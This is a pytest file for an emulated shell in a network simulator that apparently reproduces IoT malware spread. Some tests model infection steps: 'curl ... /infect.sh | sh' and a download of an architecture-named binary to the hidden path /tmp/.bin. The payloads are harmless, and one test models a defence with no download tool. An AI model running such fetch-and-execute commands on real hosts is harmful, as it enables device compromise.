"""Unit tests for the emulated shell and its builtins."""

import pytest

from repro.binaries.shell import ShellError, parse_url
from repro.netsim.address import Ipv4Address, Ipv6Address
from repro.services.http import HttpFileServer
from tests.helpers import MiniNet


def run_shell(mininet, container, command, until=60.0):
    """Execute ``sh -c command`` in the container; return stdout bytes."""
    process = container.exec_run(["/bin/sh", "-c", command])
    mininet.sim.run(until=until)
    assert process.exited, f"shell still running: {command!r}"
    if process.exit_error is not None:
        raise process.exit_error
    return process.exit_value


class TestUrlParsing:
    def test_ipv4_url(self):
        address, port, path = parse_url("http://10.0.0.1/file")
        assert address == Ipv4Address.parse("10.0.0.1")
        assert port == 80
        assert path == "/file"

    def test_ipv6_url_with_port(self):
        address, port, path = parse_url("http://[2001:db8::1]:8080/a/b")
        assert address == Ipv6Address.parse("2001:db8::1")
        assert port == 8080
        assert path == "/a/b"

    def test_default_path(self):
        assert parse_url("http://10.0.0.1")[2] == "/"

    @pytest.mark.parametrize("url", ["ftp://x/y", "http://", "not a url", "http://bad host/"])
    def test_malformed_rejected(self, url):
        with pytest.raises(ShellError):
            parse_url(url)


class TestBuiltins:
    @pytest.fixture
    def setup(self):
        mininet = MiniNet()
        container, node, link = mininet.host_container("shellbox", rate_bps=10e6)
        return mininet, container

    def test_echo(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "echo hello world") == b"hello world\n"

    def test_uname_reports_arch(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "uname -m") == b"x86_64\n"

    def test_variable_expansion_arch(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "echo bin.$ARCH") == b"bin.x86_64\n"

    def test_variable_expansion_env(self, setup):
        mininet, container = setup
        container.env["TARGET"] = "10.1.2.3"
        assert run_shell(mininet, container, "echo $TARGET") == b"10.1.2.3\n"

    def test_undefined_variable_empty(self, setup):
        mininet, container = setup
        assert run_shell(mininet, container, "echo [$NOPE]") == b"[]\n"

    def test_chmod_and_rm(self, setup):
        mininet, container = setup
        container.fs.write_file("/tmp/f", b"x", mode=0o644)
        run_shell(mininet, container, "chmod +x /tmp/f")
        assert container.fs.entry("/tmp/f").executable
        run_shell(mininet, container, "rm /tmp/f")
        assert not container.fs.exists("/tmp/f")

    def test_rm_missing_fails_without_f(self, setup):
        mininet, container = setup
        with pytest.raises(ShellError):
            run_shell(mininet, container, "rm /tmp/missing")

    def test_rm_f_ignores_missing(self, setup):
        mininet, container = setup
        run_shell(mininet, container, "rm -f /tmp/missing")

    def test_sleep_advances_virtual_time(self, setup):
        mininet, container = setup
        process = container.exec_run(["/bin/sh", "-c", "sleep 5"])
        mininet.sim.run(until=60.0)
        assert process.exited
        assert mininet.sim.now >= 5.0

    def test_pipeline_feeds_stdin_script(self, setup):
        mininet, container = setup
        # echo emits a script line; sh executes it from stdin.
        out = run_shell(mininet, container, "echo echo nested | sh")
        assert out == b"nested\n"

    def test_script_file_execution(self, setup):
        mininet, container = setup
        container.fs.write_file(
            "/tmp/script.sh", b"#!/bin/sh\necho from-script\n", mode=0o755
        )
        process = container.exec_run(["/bin/sh", "/tmp/script.sh"])
        mininet.sim.run(until=10.0)
        assert process.exit_value == b"from-script\n"

    def test_comments_skipped(self, setup):
        mininet, container = setup
        out = run_shell(mininet, container, "echo echo ok | sh")
        assert out == b"ok\n"

    def test_background_execution_does_not_block(self, setup):
        mininet, container = setup

        def forever(ctx):
            while True:
                yield ctx.sleep(60.0)

        container.fs.write_file("/bin/daemon", b"\x7fd", mode=0o755, program=forever)
        process = container.exec_run(["/bin/sh", "-c", "/bin/daemon &"])
        mininet.sim.run(until=5.0)
        assert process.exited  # shell returned
        assert container.find_processes("daemon")  # daemon still alive

    def test_exec_missing_binary_fails(self, setup):
        mininet, container = setup
        with pytest.raises(ShellError):
            run_shell(mininet, container, "/bin/nothing")

    def test_unknown_curl_option_fails(self, setup):
        mininet, container = setup
        with pytest.raises(ShellError):
            run_shell(mininet, container, "curl --retry 5 http://10.0.0.1/x")


class TestCurl:
    def make_web(self, mininet, files):
        server = HttpFileServer(root="/var/www")
        container, node, _ = mininet.host_container(
            "web",
            rate_bps=10e6,
            files={"/usr/sbin/apache2": (b"\x7fa", 0o755, server.program())},
        )
        for path, data in files.items():
            container.fs.write_file(f"/var/www{path}", data)
        container.exec_run(["/usr/sbin/apache2"])
        return node

    def test_curl_to_stdout(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {"/hello": b"web-content"})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/hello"
        assert run_shell(mininet, container, f"curl -s {url}") == b"web-content"

    def test_curl_output_file(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {"/bin.x86_64": b"\x7fELFISH" * 10})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/bin.$ARCH"
        run_shell(mininet, container, f"curl -s {url} -o /tmp/.bin")
        assert container.fs.read_file("/tmp/.bin") == b"\x7fELFISH" * 10

    def test_curl_pipe_to_sh_runs_script(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {"/infect.sh": b"#!/bin/sh\necho infected\n"})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/infect.sh"
        assert run_shell(mininet, container, f"curl -s {url} | sh") == b"infected\n"

    def test_curl_404_silent_returns_empty(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/absent"
        assert run_shell(mininet, container, f"curl -s {url}") == b""

    def test_curl_404_loud_fails(self):
        mininet = MiniNet()
        web = self.make_web(mininet, {})
        container, _n, _ = mininet.host_container("client", rate_bps=10e6)
        url = f"http://[{mininet.star.address_of(web)}]:80/absent"
        with pytest.raises(ShellError):
            run_shell(mininet, container, f"curl {url}")

    def test_hardened_shell_has_no_curl(self):
        """The paper's defense insight: no download tool on the device."""
        mininet = MiniNet()
        web = self.make_web(mininet, {"/x": b"data"})
        container, _n, _ = mininet.host_container(
            "client", rate_bps=10e6, allow_curl=False
        )
        url = f"http://[{mininet.star.address_of(web)}]:80/x"
        with pytest.raises(ShellError, match="not found"):
            run_shell(mininet, container, f"curl -s {url}")
